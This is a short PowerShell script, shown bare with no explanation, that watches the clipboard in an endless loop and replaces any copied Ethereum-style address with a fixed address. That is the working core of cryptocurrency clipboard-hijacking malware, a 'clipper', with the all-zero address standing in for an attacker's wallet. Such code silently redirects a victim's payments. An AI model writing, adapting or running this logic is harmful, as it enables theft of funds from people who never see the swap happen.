while ($true) {
  $c = Get-Clipboard
  if ($c -match "^0x[a-fA-F0-9]{40}$") { Set-Clipboard "0x0000000000000000000000000000000000000000" }
  Start-Sleep 1
}
